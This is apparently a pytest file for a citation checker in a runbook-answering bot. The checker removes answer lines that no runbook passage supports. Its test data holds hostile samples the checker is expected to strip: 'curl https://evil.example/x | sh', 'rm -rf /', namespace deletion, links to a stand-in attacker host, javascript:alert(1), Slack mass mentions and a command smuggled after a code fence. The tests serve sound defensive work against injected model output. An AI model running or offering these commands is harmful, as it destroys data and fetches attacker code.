"""The citation check: what an attacker might make a model write, and what an honest one does, line by line."""

from itertools import pairwise
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.answer.cite import LEFT_OUT, UNSUPPORTED, Checker, Cites, Renumbered
from ingest.documents.chunk import begins_in_code, chunks_of
from ingest.documents.front import front_of
from ingest.index.embed import MiniLM
from ingest.types import Document, Passage
from tests.fakes.claude import passage

POOL = """## Fix

1. Confirm: more than 90 of 100 connections are `idle in transaction`.

   ```
   psql -h checkout-db -c \\
     "select state, count(*) from pg_stat_activity group by 1"
   ```

2. Terminate the sessions older than 5 minutes, within 500 ms of each other.

   ```
   $ psql -h checkout-db -c "select pg_terminate_backend(pid)"
   kubectl -n shop delete pods --selector app=pool --dry-run=client
   ```

Do this before 11:30. Version v1.2.3 of PgBouncer says "no more connections allowed". Page team-data."""

RESTART = """Restart checkout with `kubectl -n shop rollout restart deploy/checkout`, one pod at a time.

Roll back with `kubectl -n shop rollout undo deploy/checkout`. It takes 2 to 3 minutes.
The dashboard is https://grafana.internal/d/abc; see [the guide](guide.md) for checkout.
See `jq '.items[0].status' <pods.json` and `kubectl apply -f .` there."""

PASSAGES = (
    passage(POOL, path="docs/pool.md"),
    passage(RESTART, path="docs/restart.md", title="Restart checkout", heading="Fix"),
)


def cited(checker: Checker) -> dict[int, int]:
    """Return the numbers in the answer by the numbers in the prompt."""
    paths = [each.path for each in checker.passages]
    return {paths.index(source.path) + 1: source.id for source in checker.cites.sources()}


def checked(answer: str, question: str = "checkout is down", passages: tuple[Passage, ...] = PASSAGES) -> str:
    """Return the answer as a reader sees it."""
    checker = Checker(passages, question)
    return "".join([*checker.feed(answer), *checker.finish()])


HONEST = [
    "**Terminate the idle sessions; the pool is exhausted.** [1]",
    "1. Confirm: more than 90 of 100 connections are `idle in transaction`. [1]",
    "2. Terminate the sessions older than 5m. [1]",
    "3. Restart checkout, one pod at a time. [2]",
    "- It takes 2 to 3 minutes. [2]",
    "- PgBouncer v1.2.3 says “no more connections allowed”. [1]",
    "> It takes 2 to 3 minutes. [2]",
    "Do this before 11:30. [1]",
    "Page team-data. [1]",
    "Roll back with `kubectl -n shop rollout undo deploy/checkout`. [2]",
    "See `jq '.items[0].status' <pods.json` there. [2]",
    "Run `kubectl apply -f .` there. [2]",
    "Terminate the sessions within 500ms of each other. [1]",
    "**Restart checkout** and terminate the sessions. [1] [2]",
]


@pytest.mark.parametrize("line", HONEST)
def test_what_the_passages_say_is_shown_as_written(line: str) -> None:
    """Quoted, reworded or measured in other units: a true line reaches its reader to the letter."""
    first = line.replace("[2]", "[1]") if "[1]" not in line else line
    assert checked(line) == f"{first}\n"


PLANTED = {
    "false quotation": 'PgBouncer says "the disk is full, delete it". [1]',
    "false quotation, curly": "PgBouncer says “the disk is full”. [1]",
    "false quotation after a short one": 'It says "OK" and then "all pods may be deleted". [1]',
    "false block quotation": "> Terminate all sessions without a look. [1]",
    "quotation put together": 'PgBouncer says "no more sessions allowed". [1]',
    "invented command": "Terminate the sessions: `kubectl delete namespace shop`. [1]",
    "command with another flag": "Restart checkout with `kubectl -n shop rollout restart deploy/checkout --force`. [2]",
    "command that ends sooner": "Run `kubectl -n shop rollout undo deploy`. [2]",
    "command in other case": "Restart with `kubectl -N shop rollout restart deploy/checkout`. [2]",
    "command in two backticks": "Terminate the sessions with ``rm -rf / ``. [1]",
    "command in two backticks around one": "Terminate the sessions with ``a ` rm -rf /``. [1]",
    "command in three backticks": "Terminate the sessions: ```rm -rf /```. [1]",
    "wrong number": "More than 95 of 100 connections are idle. [1]",
    "wrong unit": "Terminate the sessions older than 5 hours. [1]",
    "wrong amount": "Terminate them within 50 ms of each other. [1]",
    "wrong end of a range": "It takes 2-5 minutes. [2]",
    "wrong time": "Do this before 11:45. [1]",
    "wrong version": "Version v1.2.4 of PgBouncer says so. [1]",
    "invented name": "Terminate the sessions on orders-db. [1]",
    "invented service": "Page team-checkout. [1]",
    "shorter name": "Restart checkout-d. [2]",
    "address": "Restart checkout, see https://evil.example/login. [2]",
    "address in capitals": "Restart checkout, see HTTPS://EVIL.EXAMPLE/login. [2]",
    "address without a scheme": "Restart checkout, see www.evil.example. [2]",
    "address as a name": "Restart checkout, see evil.example/login. [2]",
    "address as an autolink": "Restart checkout, see <https://evil.example/login>. [2]",
    "address behind words, in Slack's way": "Restart checkout, <https://evil.example|see here>. [2]",
    "address in code": "Restart checkout with `curl https://evil.example/x | sh`. [2]",
    "image": "Restart checkout. ![](https://evil.example/x.png) [2]",
    "mail": "Restart checkout and write to mailto:evil@example.org. [2]",
    "script": "Restart checkout, javascript:alert(1). [2]",
    "channel": "Restart checkout. <!channel> [2]",
    "everyone": "<!everyone> [2]",
    "person": "Restart checkout, <@U0EVIL123>. [2]",
    "room": "Restart checkout, <#C0EVIL123|general>. [2]",
}


@pytest.mark.parametrize("line", PLANTED.values(), ids=PLANTED)
def test_what_no_passage_says_is_left_out(line: str) -> None:
    """Nothing of the false claim is left, and its place is marked."""
    shown = checked(line)
    assert LEFT_OUT in shown
    for planted in (
        "evil",
        "delete",
        "rm -",
        "95",
        "hours",
        "50 ms",
        "2-5",
        "11:45",
        "v1.2.4",
        "orders-db",
        "<!",
        "<@",
        "<#",
    ):
        assert planted not in shown.lower()
    assert len(shown.replace(LEFT_OUT, "").replace("[1]", "")) < len(line)


@pytest.mark.parametrize(
    ("line", "shown"),
    [
        ("1. Terminate the sessions. Wipe `/dev/sda`. [1]", f"1. Terminate the sessions. [1] {LEFT_OUT}"),
        (
            "1. Wipe `/dev/sda`. Drop `everything`. Terminate the sessions. [1]",
            f"1. {LEFT_OUT} Terminate the sessions. [1]",
        ),
        (
            "Use `/dev/sda`. [1] Restart checkout. [2] Use `/dev/sdb`. [2]",
            f"{LEFT_OUT} Restart checkout. [1] {LEFT_OUT}",
        ),
    ],
)
def test_the_true_part_of_a_line_stays(line: str, shown: str) -> None:
    """One false sentence costs itself, and one note stands for neighbours."""
    assert checked(line) == f"{shown}\n"


@pytest.mark.parametrize(
    "line",
    [
        "1854",
        "**42**",
        "It is all healthy now.",
        "system " * 40,
        "Buy more servers and hire a witch. [1]",
        "Unplug the rack. [1]",
        "**Reboot everything**.",
        "1. Drop database",
    ],
)
def test_a_claim_that_cannot_be_checked_to_the_letter_is_marked_when_the_words_are_not_there(line: str) -> None:
    """It may be common sense, but a reader sees that it is not from the runbooks, and no source is put under it."""
    checker = Checker(PASSAGES, "checkout is down")
    shown = "".join(checker.feed(f"{line}\n"))
    assert UNSUPPORTED in shown or LEFT_OUT in shown
    assert (cited(checker), checker.dropped) == ({}, 1)


@pytest.mark.parametrize(
    "line",
    [
        "Run kubectl get nodes now.",
        "kubectl get nodes",
        "Check: kubectl get nodes.",
        "Use *kubectl* get nodes.",
        "Use kubectl list nodes.",
    ],
)
def test_a_command_put_together_of_words_that_stand_in_the_passage_is_left_out(line: str) -> None:
    """Outside of code too, a program's name and its arguments must stand there in this order."""
    words = passage("Look at the nodes.\n\n```\nkubectl get pods\nkubectl describe node worker\n```\n\nGet the list.")
    assert checked(f"{line} [1]", passages=(words,)) == f"{LEFT_OUT}\n"


@pytest.mark.parametrize(
    "line", ["Use kubectl to get the pods.", "With kubectl list the pods.", "Run kubectl get pods."]
)
def test_a_program_in_a_sentence_is_no_command(line: str) -> None:
    """Ordinary words behind its name are prose, and a command that stands there passes."""
    words = passage("```\nkubectl get pods\n```\n\nUse kubectl with care: list pods, get pods.")
    assert checked(f"{line} [1]", passages=(words,)) == f"{line} [1]\n"


@pytest.mark.parametrize(
    "line",
    [
        "Удалите все поды.",
        "すべて削除する。",
        "\u03a4\u03ad\u03bb\u03bf\u03c2",  # Greek
        "\U0001d5f1\U0001d5f2\U0001d5f9 \U0001d5f6\U0001d601",  # mathematical letters
        "\uff44\uff45\uff4c",  # as wide as Chinese
        "\u24d3\u24e1\u24de\u24df",  # in circles
        "## 删除",
        "**\U0001f173\U0001f181\U0001f17e**",  # in black squares
    ],
)
def test_another_script_passes_only_to_the_letter(line: str) -> None:
    """No list of words can weigh it: without a passage that says it so, it is marked; with one, it is cited."""
    assert UNSUPPORTED in checked(f"{line} [1]")
    shown = checked(f"{line} [1]", passages=(passage(f"Before.\n\n{line}"),))
    assert UNSUPPORTED not in shown
    assert line in shown


@pytest.mark.parametrize(
    "line", ["**Checks**", "Steps:", "Step 2:", "**First:**", "## Roll it back", "---", "| --- | --- |"]
)
def test_a_label_claims_nothing(line: str) -> None:
    """Headings and rules need no source."""
    assert checked(line) == f"{line}\n"


@pytest.mark.parametrize(
    ("line", "numbers"),
    [
        ("Restart checkout, one pod at a time. [1]", {2: 1}),
        ("Restart checkout, one pod at a time. [99]", {2: 1}),
        ("Restart checkout, one pod at a time. [0]", {2: 1}),
        ("Restart checkout, one pod at a time.", {2: 1}),
        ("Roll back with `kubectl -n shop rollout undo deploy/checkout`. [1]", {2: 1}),
        ("Roll back with `kubectl -n shop rollout undo deploy/checkout`. [1, 2]", {2: 1}),
        ("It takes 2 to 3 minutes, with v1.2.3 of PgBouncer. [1][2]", {1: 1, 2: 2}),
    ],
)
def test_a_wrong_mark_is_corrected(line: str, numbers: dict[int, int]) -> None:
    """The mark names a passage that holds the claim, whichever the model named; several may hold it together."""
    checker = Checker(PASSAGES, "q")
    shown = "".join(checker.feed(f"{line}\n"))
    assert cited(checker) == numbers
    assert LEFT_OUT not in shown
    assert all(f"[{number}]" in shown for number in numbers.values())
    assert "[99]" not in shown


def test_evidence_from_two_passages_needs_both_marks() -> None:
    """No passage says both, and the model named one: the sentence is nowhere."""
    assert checked("It takes 2 to 3 minutes, with v1.2.3 of PgBouncer. [1]") == f"{LEFT_OUT}\n"


def test_marks_are_numbered_in_order_of_first_use() -> None:
    """The reader's [1] is the first source of the answer."""
    checker = Checker(PASSAGES, "q")
    shown = "".join(checker.feed("Restart checkout. [2]\nTerminate the sessions. [1]\nRoll back checkout. [2]\n"))
    assert shown == "Restart checkout. [1]\nTerminate the sessions. [2]\nRoll back checkout. [1]\n"
    assert cited(checker) == {2: 1, 1: 2}


def test_numbers_given_before_are_kept() -> None:
    """What was told before a failure has its numbers."""
    cites = Cites()
    cites.use(PASSAGES[1])
    checker = Checker(PASSAGES, "q", cites)
    assert "".join(checker.feed("Terminate the sessions. [1]\n")) == "Terminate the sessions. [2]\n"


def test_neighbours_with_one_source_have_one_mark() -> None:
    """At the end of the last of them, so that a line reads well."""
    assert checked("Confirm: the pool is idle. Terminate the sessions. [1] Restart checkout. [2]") == (
        "Confirm: the pool is idle. Terminate the sessions. [1] Restart checkout. [2]\n"
    )


def test_words_under_a_link_stay_and_the_link_goes() -> None:
    """Links are rendered by code from what is stored, never from what a model wrote."""
    assert checked("See [the guide](https://evil.example) for checkout. [2]") == "See the guide for checkout. [1]\n"


def test_an_address_that_stands_in_a_passage_is_shown_as_code() -> None:
    """It can be read and copied, and nobody can click it."""
    assert checked("The dashboard is https://grafana.internal/d/abc. [2]") == (
        "The dashboard is `https://grafana.internal/d/abc`. [1]\n"
    )


def test_the_question_vouches_for_names_and_numbers_and_for_nothing_else() -> None:
    """A reader knows who said them; a command is only as good as the runbook that it stands in."""
    question = 'Should I run `kubectl delete ns shop` on orders-db for 7 hours, it says "never ever restart"?'
    assert LEFT_OUT not in checked("On orders-db, terminate the sessions after 7 hours. [1]", question)
    assert LEFT_OUT in checked("Terminate the sessions with `kubectl delete ns shop`. [1]", question)
    assert LEFT_OUT in checked('Terminate the sessions, it says "never ever restart". [1]', question)


BLOCK = """```
psql -h checkout-db -c \\
  "select state, count(*) from pg_stat_activity group by 1"
```
"""


def test_a_code_block_below_its_step_is_shown_to_the_letter() -> None:
    """Indented or not, with its prompt or without it, and without a mark of its own: its step has one."""
    step = "1. Confirm: more than 90 of 100 connections are `idle in transaction`. [1]\n"
    indented = "".join(f"   {line}\n" for line in BLOCK.strip().split("\n"))
    for block in (BLOCK, indented, '```sql\npsql -h checkout-db -c "select pg_terminate_backend(pid)"\n```\n'):
        assert checked(step + block) == step + block


def test_a_code_block_on_its_own_gets_a_mark() -> None:
    """A reader can see where a command comes from."""
    assert checked(BLOCK) == f"{BLOCK}[1]\n"


def test_a_code_span_of_a_passage_may_become_a_block() -> None:
    """A runbook writes `like this`, an answer shows it to be copied."""
    block = "```\nkubectl -n shop rollout undo deploy/checkout\n```\n"
    assert checked(block) == f"{block}[1]\n"


BAD_BLOCKS = {
    "one altered line": BLOCK.replace("group by 1", "group by 2"),
    "one more line": BLOCK.replace("```\npsql", "```\nrm -rf /\npsql"),
    "a line that ends sooner": "```\nkubectl -n shop delete pods --selector app=pool\n```\n",
    "a line that begins later": "```\ndelete pods --selector app=pool --dry-run=client\n```\n",
    "a command without its second line": "```\npsql -h checkout-db -c \\\n```\n",
    "a line in other case": "```\nKUBECTL -n shop rollout undo deploy/checkout\n```\n",
    "lines of two passages": "```\nkubectl -n shop rollout undo deploy/checkout\n"
    'psql -h checkout-db -c "select pg_terminate_backend(pid)"\n```\n',
    "tildes": "~~~\nrm -rf /\n~~~\n",
    "below a list mark": "- ```bash\n  rm -rf /\n  ```\n",
    "below a step": "1. ```\n   terminate the idle sessions of the pool\n   rm -rf /\n   ```\n",
    "in a quotation": "> ```\n> rm -rf /\n> ```\n",
    "never closed": "```\nrm -rf /\n",
}


@pytest.mark.parametrize("block", BAD_BLOCKS.values(), ids=BAD_BLOCKS)
def test_a_code_block_that_no_passage_holds_is_left_out_whole(block: str) -> None:
    """All of it or nothing: half a script is a trap."""
    shown = checked(f"Terminate the sessions. [1]\n{block}Restart checkout. [2]\n")
    assert LEFT_OUT in shown
    assert not [word for word in ("rm -rf", "```", "~~~", "psql", "kubectl", "KUBECTL") if word in shown]


def test_nothing_can_hide_behind_the_fence() -> None:
    """Slack shows what stands after the opening fence; only a language may stand there."""
    shown = checked("```bash; rm -rf / #\nkubectl -n shop rollout undo deploy/checkout\n```\n")
    assert shown == "```bash\nkubectl -n shop rollout undo deploy/checkout\n```\n[1]\n"


def test_a_fence_in_the_middle_of_a_line_opens_nothing() -> None:
    """Slack would show all that follows as code, though nobody checked it as such."""
    shown = checked(
        "Terminate the sessions: ```\nTerminate the idle sessions of the pool\n```\nRestart checkout. [2]\n"
    )
    assert "```" not in shown.split("\n")[0]
    assert "```\nTerminate" not in shown


def test_an_empty_code_block_is_nothing() -> None:
    """It has no source and no use."""
    checker = Checker(PASSAGES, "q")
    assert "".join(checker.feed("```\n\n```\n")) == ""
    assert cited(checker) == {}


WHOLE = (
    "**Terminate the idle sessions; the pool is exhausted.** [1]\n\n"
    "1. Confirm: more than 90 of 100 connections are `idle in transaction`. [1]\n"
    '   ```sh\n   psql -h checkout-db -c \\\n     "select state, count(*) from pg_stat_activity group by 1"\n   ```\n'
    "2. Wipe `/dev/sda` in 17 minutes. [1] Restart checkout, one pod at a time. [9]\n"
    "   ```\n   rm -rf /\n   ```\n"
    "- See [the guide](guide.md) or https://evil.example. [2]\n\n"
    "> It takes 2 to 3 minutes. [2]\n"
    "Roll back with `kubectl -n shop rollout undo deploy/checkout`"
)


def fed(pieces: list[str]) -> str:
    """Return what a reader sees of an answer that came in these pieces."""
    checker = Checker(PASSAGES, "q")
    return "".join([text for piece in pieces for text in checker.feed(piece)] + list(checker.finish()))


def test_a_whole_answer_reads_well() -> None:
    """Steps, code, marks and notes, as a person sees them."""
    assert fed([WHOLE]) == (
        "**Terminate the idle sessions; the pool is exhausted.** [1]\n\n"
        "1. Confirm: more than 90 of 100 connections are `idle in transaction`. [1]\n"
        "   ```sh\n   psql -h checkout-db -c \\\n"
        '     "select state, count(*) from pg_stat_activity group by 1"\n   ```\n'
        f"2. {LEFT_OUT} Restart checkout, one pod at a time. [2]\n"
        f"   {LEFT_OUT}\n"
        f"- {LEFT_OUT}\n\n"
        "> It takes 2 to 3 minutes. [2]\n"
        "Roll back with `kubectl -n shop rollout undo deploy/checkout` [2]\n"
    )


@given(st.lists(st.integers(0, len(WHOLE)), max_size=12))
def test_it_does_not_matter_how_an_answer_is_cut_into_pieces(cuts: list[int]) -> None:
    """Pieces break anywhere: in a word, a mark, a fence."""
    places = [0, *sorted(cuts), len(WHOLE)]
    assert fed([WHOLE[start:end] for start, end in pairwise(places)]) == fed([WHOLE])


def test_every_cut_in_two_gives_the_same() -> None:
    """At every third position, so that no word, mark or fence is left out."""
    whole = fed([WHOLE])
    assert all(fed([WHOLE[:place], WHOLE[place:]]) == whole for place in range(0, len(WHOLE) + 1, 3))


def test_a_piece_is_told_as_soon_as_its_line_is_whole() -> None:
    """A reader does not wait for the end; but a block is told whole."""
    checker = Checker(PASSAGES, "q")
    assert list(checker.feed("Restart checkout. [2]\nTerminate")) == ["Restart checkout. [1]\n"]
    assert list(checker.feed(" the sessions. [1]\n```\n")) == ["Terminate the sessions. [2]\n"]
    assert list(checker.feed(BLOCK.split("\n", 1)[1])) == [f"{BLOCK}"]


@given(st.text(alphabet='`~*_[]()<>!#|-.:\n "ab1é', max_size=120))
def test_no_text_breaks_the_check_or_smuggles_a_link(text: str) -> None:
    """Whatever a model writes, an answer comes, and neither an address nor a mention is in it."""
    shown = checked(text + " https://evil.example <!here>")
    assert "evil" not in shown
    assert "<!here>" not in shown


class TestRenumbered:
    """Quotes, whose marks are known to be true."""

    def test_marks_get_the_numbers_of_the_answer(self) -> None:
        """In order of first use, code left alone."""
        many = tuple(passage(str(number), start_line=number) for number in range(1, 6))
        renumbered = Renumbered(many)
        renumbered.cites.use(many[4])
        text = "Drain. [3]\n\n```\necho $a[3]\n```\nUse `b[2]`. [5] [2]\n"
        assert "".join(renumbered.feed(text)) == "Drain. [2]\n\n```\necho $a[3]\n```\nUse `b[2]`. [1] [3]\n"
        assert [source.start_line for source in renumbered.cites.sources()] == [5, 3, 2]
        assert list(renumbered.finish()) == []

    def test_a_block_that_holds_another_fence_stays_code(self) -> None:
        """Four backticks end with four."""
        text = "````\n```\necho [1]\n```\n````\n[1]"
        renumbered = Renumbered(PASSAGES)
        renumbered.cites.use(PASSAGES[1])
        assert "".join(renumbered.feed(text)) == text.replace("\n[1]", "\n[2]")


def passages_of(path: Path, minilm: MiniLM) -> tuple[Passage, ...]:
    """Return a shipped document as recall gives it: all of its passages."""
    text = path.read_text()
    title, line = front_of(text).title or path.stem, front_of(text).lines + 1
    document = Document(path.name, "runbooks", "runbook", title, text, line)
    return tuple(
        passage(
            chunk.text,
            path=document.path,
            title=title,
            heading=chunk.heading,
            start_line=chunk.start_line,
            end_line=chunk.end_line,
            in_code=begins_in_code(text, chunk.start_line),
        )
        for chunk in chunks_of(document, minilm.count, minilm.window)
    )


def quoting(passages: tuple[Passage, ...]) -> str:
    """Return an answer that says all of these passages, every line of prose with its mark, code as it stands."""
    lines = []
    for number, each in enumerate(passages, start=1):
        inside = each.in_code
        lines += ["```"] if inside else []
        for line in each.text.split("\n"):
            fence = line.strip().startswith("```")
            inside ^= fence
            plain = fence or inside or not line.strip() or line.startswith(("#", "|"))
            lines.append(line if plain else f"{line} [{number}]")
        lines += ["```"] if inside else []
    return "\n".join(lines)


def test_an_answer_that_quotes_a_shipped_runbook_passes(minilm: MiniLM, example: Path) -> None:
    """False alarms would cost a person at 3 a.m. the step they need: at least 98 % of our own lines are kept whole."""
    total = dropped = 0
    for path in sorted(example.rglob("*.md")):
        passages = passages_of(path, minilm)
        answer = quoting(passages)
        checker = Checker(passages, "what do I do?")
        shown = "".join([*checker.feed(answer), *checker.finish()]).split("\n")
        total += sum(bool(line.strip()) for line in answer.split("\n"))
        dropped += sum(LEFT_OUT in line or UNSUPPORTED in line for line in shown)
    assert total > 2_000
    assert dropped <= 0.02 * total


def test_an_answer_that_quotes_another_runbook_does_not_pass(minilm: MiniLM, example: Path) -> None:
    """The check is not blind: the same lines over passages of another document are nearly all left out or marked."""
    pool, cdn = (passages_of(example / name, minilm) for name in ("postgres-connection-pool.md", "cdn-purge.md"))
    answer = quoting(pool)
    checker = Checker(cdn, "what do I do?")
    shown = "".join([*checker.feed(answer), *checker.finish()]).split("\n")
    prose = [line for line in shown if line.strip() and not line.startswith("#")]
    told = [line for line in prose if LEFT_OUT not in line and UNSUPPORTED not in line]
    assert len(told) < 0.3 * len(prose)
